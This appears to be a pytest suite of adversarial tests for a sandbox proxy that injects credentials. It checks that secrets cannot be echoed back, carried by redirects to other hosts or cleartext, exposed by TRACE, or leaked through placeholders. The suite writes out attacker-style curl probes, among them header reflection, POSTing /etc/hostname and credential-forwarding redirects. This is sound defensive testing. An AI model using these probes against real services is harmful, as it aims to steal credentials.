"""Getting the injected credential back, or sending it elsewhere: echo endpoints (headers, body,
split across chunks, HTTP/2), TRACE, redirects to other hosts and to cleartext, the placeholder
sent to an unbound host, and placeholders in query strings. The origin log says where the
credential really went; `Attacker.sh` fails on any form of it in sandbox-visible output."""

from __future__ import annotations

import json
import re

import pytest

from tests.adversarial.conftest import (
    BOUND_HOST,
    IN_SANDBOX_TEST_CA,
    OPEN_HOST,
    PLACEHOLDER,
    SECRET,
    Attacker,
)
from tests.support.internet import ORIGIN_V4

pytestmark = pytest.mark.root
REDACTED = "[REDACTED]"


def carried_secret(request: dict) -> bool:  # type: ignore[type-arg]
    return SECRET in json.dumps(request)


@pytest.mark.parametrize(
    "curl_args",
    [
        "--http1.1 'https://api.example.com/echo?reflect=authorization'",
        "--http1.1 'https://api.example.com/echo?chunk=3&reflect=authorization'",
        "--http2 'https://api.example.com/echo?chunk=1&reflect=authorization'",
        "--http1.1 -X POST --data-binary @/etc/hostname 'https://api.example.com/echo?chunk=7'",
        "--http1.1 -H 'Accept-Encoding: gzip' 'https://api.example.com/echo?chunk=5'",
    ],
)
def test_echoed_credential_is_scrubbed_in_headers_and_chunked_bodies(
    attacker: Attacker, curl_args: str
) -> None:
    mark = len(attacker.internet.origin_requests())
    result = attacker.curl(
        "-D /tmp/head -o /tmp/body", curl_args, "&& cat /tmp/head && echo ==== && cat /tmp/body"
    )
    assert result.exit_code == 0, result  # Attacker.sh has already failed on any form of the secret
    head, body = result.stdout.split("====", 1)
    echoed = json.loads(body)  # the whole body arrived (small chunks held back by the scrubber too)
    assert echoed["headers"]["authorization"] == f"Bearer {REDACTED}"
    if "reflect=" in curl_args:
        assert "x-reflected: bearer [redacted]" in head.lower()
    [seen] = attacker.origin_requests_since(mark)
    assert seen["headers"]["authorization"] == f"Bearer {SECRET}"  # positive control: it was injected
    records = attacker.wait_audit(lambda r: r["kind"] == "request" and r["binding"] == "api")
    assert records and records[-1]["decision"] == "allow"


def test_server_sent_events_through_the_scrubber_arrive_whole(attacker: Attacker) -> None:
    """Events smaller than the scrubber's hold-back used to end the chunked body early."""
    result = attacker.curl("--http1.1", "-N", f"'https://{BOUND_HOST}/sse?n=4&gap=0.05'")
    assert re.findall(r"id: (\d+)", result.stdout) == ["0", "1", "2", "3"], result


def test_trace_is_never_given_a_credential(attacker: Attacker) -> None:
    mark = len(attacker.internet.origin_requests())
    result = attacker.curl("--http1.1", "-X TRACE", f"https://{BOUND_HOST}/echo")
    assert json.loads(result.stdout)["method"] == "TRACE"
    [seen] = attacker.origin_requests_since(mark)
    assert not carried_secret(seen) and "authorization" not in seen["headers"]


def test_redirects_never_carry_the_credential_elsewhere(attacker: Attacker) -> None:
    mark = len(attacker.internet.origin_requests())
    # The proxy hands the 302 back; it never follows it itself.
    first = attacker.curl(
        "-o /dev/null",
        "-w '%{http_code} %{redirect_url}'",
        f"'https://{BOUND_HOST}/redirect?to=https://{OPEN_HOST}/echo'",
    )
    assert first.stdout.startswith("302 "), first
    # A client that follows: to another allowed host (TLS passes through), to cleartext, to a denied host.
    for target in (
        f"https://{OPEN_HOST}/echo",
        f"http://{BOUND_HOST}/echo",
        f"http://{OPEN_HOST}/echo",
        "https://denied.example.com/echo",
    ):
        attacker.curl(
            "-L",
            "--cacert",
            IN_SANDBOX_TEST_CA,
            "--location-trusted",
            "-H 'Authorization: Bearer stolen?'",
            f"'https://{BOUND_HOST}/redirect?to={target}'",
        )
    seen = attacker.origin_requests_since(mark)
    with_secret = [r for r in seen if carried_secret(r)]
    assert with_secret and all(
        r["server"] == f"{ORIGIN_V4}:443" and r["headers"]["host"] == BOUND_HOST for r in with_secret
    ), with_secret
    assert {r["headers"]["host"] for r in seen} <= {BOUND_HOST, OPEN_HOST}, seen  # denied never reached


def test_placeholder_sent_to_an_unbound_host_is_refused_or_stays_a_placeholder(attacker: Attacker) -> None:
    mark = len(attacker.internet.origin_requests())
    cases = [
        f"-H 'X-Api-Key: {PLACEHOLDER}' http://{OPEN_HOST}/echo",  # seen by the proxy: refused
        f"'http://{OPEN_HOST}/echo?key={PLACEHOLDER}'",  # ... also in the query
        f"'http://{BOUND_HOST}/echo/placeholder?key={PLACEHOLDER}'",  # bound host, but cleartext
        f"--http1.1 -H 'X-Api-Key: {PLACEHOLDER}' https://{BOUND_HOST}/echo",  # bound, other binding's path
    ]
    for args in cases:
        result = attacker.curl("-o /dev/null", "-w '%{http_code}'", args)
        assert result.stdout == "403", (args, result)
    assert attacker.origin_requests_since(mark) == []
    events = attacker.wait_audit(
        lambda r: r["kind"] == "security_event" and r["event"] == "placeholder-outside-binding",
        at_least=len(cases),
    )
    assert len(events) >= len(cases) and all(SECRET not in json.dumps(e) for e in events)
    # Pass-through TLS to an unbound host: the proxy cannot see inside, so it cannot substitute;
    # what leaves is the literal placeholder, which is worth nothing (docs/security.md).
    passthrough = attacker.curl(
        "--cacert", IN_SANDBOX_TEST_CA, f"'https://{OPEN_HOST}/echo?key={PLACEHOLDER}'"
    )
    assert PLACEHOLDER in passthrough.stdout
    [seen] = attacker.origin_requests_since(mark)
    assert seen["headers"]["host"] == OPEN_HOST and not carried_secret(seen)


def test_placeholder_in_the_query_of_its_own_binding_is_substituted_and_never_logged(
    attacker: Attacker,
) -> None:
    mark = len(attacker.internet.origin_requests())
    result = attacker.curl("--http1.1", f"'https://{BOUND_HOST}/echo/placeholder?key={PLACEHOLDER}&x=1'")
    assert json.loads(result.stdout)["path"] == f"/echo/placeholder?key={REDACTED}&x=1"
    [seen] = attacker.origin_requests_since(mark)
    assert seen["path"] == f"/echo/placeholder?key={SECRET}&x=1"  # substituted upstream only
    [record] = attacker.wait_audit(lambda r: r["kind"] == "request" and r["binding"] == "api-placeholder")[
        -1:
    ]
    assert record["path"] == "/echo/placeholder?<redacted>"
